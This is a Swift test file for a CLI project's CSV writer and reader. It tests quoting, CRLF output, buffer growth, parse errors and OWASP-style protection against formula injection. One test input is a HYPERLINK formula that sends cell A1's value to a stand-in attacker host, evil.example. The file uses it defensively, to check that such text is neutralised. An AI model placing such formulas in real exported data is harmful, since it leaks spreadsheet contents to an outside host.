import Testing

@testable import ListsCLI

@Suite struct CSVWriterTests {
  @Test(
    arguments: [
      ("plain", "plain"),
      ("", ""),
      (" spaced ", " spaced "),
      ("a,b", "\"a,b\""),
      ("say \"hi\"", "\"say \"\"hi\"\"\""),
      ("\"", "\"\"\"\""),
      ("line\nbreak", "\"line\nbreak\""),
      ("carriage\rreturn", "\"carriage\rreturn\""),
      ("東京, 日本", "\"東京, 日本\""),
      ("semi;colon\ttab", "semi;colon\ttab"),
    ] as [(String, String)])
  func quotesOnlyWhenNeeded(field: String, csv: String) {
    var writer = CSVWriter()
    writer.field(field)
    #expect(String(decoding: writer.bytes, as: UTF8.self) == csv)
  }

  @Test func writesAHeaderAndRecordsWithCRLF() {
    var writer = CSVWriter()
    writer.record(["id", "title", "note"])
    writer.field(1)
    writer.field("Mug, \"blue\"")
    writer.field(nil as String?)
    writer.endRecord()
    writer.field(-20)
    writer.field(nil as Int?)
    writer.field("x")
    writer.endRecord()
    #expect(
      String(decoding: writer.bytes, as: UTF8.self)
        == "id,title,note\r\n1,\"Mug, \"\"blue\"\"\",\r\n-20,,x\r\n")
  }

  @Test func removeAllStartsAFreshRecord() {
    var writer = CSVWriter()
    writer.field("a")
    writer.removeAll()
    writer.field("b")
    writer.endRecord()
    #expect(writer.bytes == Array("b\r\n".utf8))
  }

  @Test func growsPastItsCapacity() {
    var writer = CSVWriter(capacity: 1)
    let long = String(repeating: "\"東,", count: 1000)
    writer.record([long, "x"])
    let expected = "\"" + String(repeating: "\"\"東,", count: 1000) + "\",x\r\n"
    #expect(writer.count == expected.utf8.count)
    #expect(writer.withBytes { Array($0) } == Array(expected.utf8))
  }
}

/// Formula protection (OWASP, CSV injection): text a spreadsheet would run is written as text,
/// and read back exactly.
@Suite struct CSVFormulaProtectionTests {
  @Test(
    arguments: [
      ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
      ("=1+2", "'=1+2"),
      ("+49 30 1234567", "'+49 30 1234567"),
      ("-2+3", "'-2+3"),
      ("@SUM(A1)", "'@SUM(A1)"),
      ("\tindented", "'\tindented"),
      ("\rreturn", "\"'\rreturn\""),
      ("'quoted", "''quoted"),
      ("a=1", "a=1"),
      ("plain", "plain"),
      ("", ""),
    ] as [(String, String)])
  func aCellThatBeginsLikeAFormulaGetsAQuoteInFront(text: String, csv: String) {
    var writer = CSVWriter()
    writer.field(text)
    #expect(String(decoding: writer.bytes, as: UTF8.self) == csv)
  }

  @Test func aRawWriterWritesTextAsItIs() {
    var raw = CSVWriter(protectsFormulas: false)
    raw.record(["=1+2", "'a", "+4"])
    #expect(String(decoding: raw.bytes, as: UTF8.self) == "=1+2,'a,+4\r\n")
  }

  @Test(arguments: ["=1+2", "+1", "-1", "@a", "\tb", "\rc", "'d", "''e", "plain", "a'b", "'"])
  func unprotectedGivesBackWhatWasWritten(text: String) throws {
    var writer = CSVWriter()
    writer.field(text)
    writer.endRecord()
    var reader = CSVRecordReader(source: ScriptedByteSource(writer.bytes, chunkSize: 3))
    let record = try #require(try reader.next())
    #expect(record.fields.map(CSVWriter.unprotected) == [text])
  }

  @Test func numbersAreNeverChanged() {
    var writer = CSVWriter()
    writer.field(-20)
    #expect(writer.bytes == Array("-20".utf8))
  }
}

@Suite struct CSVRecordReaderTests {
  func records(_ text: String, chunkSize: Int = 2) throws(CSVRecordReader<ScriptedByteSource>.ReadError)
    -> [CSVRecordReader<ScriptedByteSource>.Record]
  {
    var reader = CSVRecordReader(source: ScriptedByteSource(Array(text.utf8), chunkSize: chunkSize), chunkSize: 4)
    var result: [CSVRecordReader<ScriptedByteSource>.Record] = []
    while let record = try reader.next() { result.append(record) }
    return result
  }

  @Test func readsWhatTheWriterWrites() throws {
    var writer = CSVWriter()
    writer.record(["id", "title", "note"])
    writer.field(1)
    writer.field("Mug, \"blue\"\r\nsecond line")
    writer.field(nil as String?)
    writer.endRecord()
    writer.record(["2", "東京", ""])
    let text = String(decoding: writer.bytes, as: UTF8.self)
    for chunk in [1, 2, 7, 4096] {
      let read = try records(text, chunkSize: chunk)
      #expect(read.map(\.fields) == [
        ["id", "title", "note"], ["1", "Mug, \"blue\"\r\nsecond line", ""], ["2", "東京", ""],
      ])
      #expect(read.map(\.line) == [1, 2, 4])
    }
  }

  @Test func bareLineFeedsBlankLinesAndAByteOrderMark() throws {
    let read = try records("\u{FEFF}a,b\n\n\nc,d")
    #expect(read.map(\.fields) == [["a", "b"], ["c", "d"]])
    #expect(read.map(\.line) == [1, 4])
  }

  @Test(
    arguments: [
      ("a,b\"c\n", CSVRecordReader<ScriptedByteSource>.ReadError.strayQuote(line: 1)),
      ("x\n\"a\"b\n", .strayQuote(line: 2)),
      ("x\n\"open,\nstill", .unterminatedQuote(line: 2)),
    ] as [(String, CSVRecordReader<ScriptedByteSource>.ReadError)])
  func malformedInputNamesItsLine(text: String, error: CSVRecordReader<ScriptedByteSource>.ReadError) {
    #expect(throws: error) { try records(text) }
  }

  @Test func aRecordLongerThanTheLimitIsAnError() {
    var reader = CSVRecordReader(
      source: ScriptedByteSource(Array("short\n\(String(repeating: "x", count: 100))\n".utf8), chunkSize: 8),
      maximumRecordLength: 50)
    #expect(throws: CSVRecordReader<ScriptedByteSource>.ReadError.recordTooLong(line: 2, limit: 50)) {
      while try reader.next() != nil {}
    }
  }
}
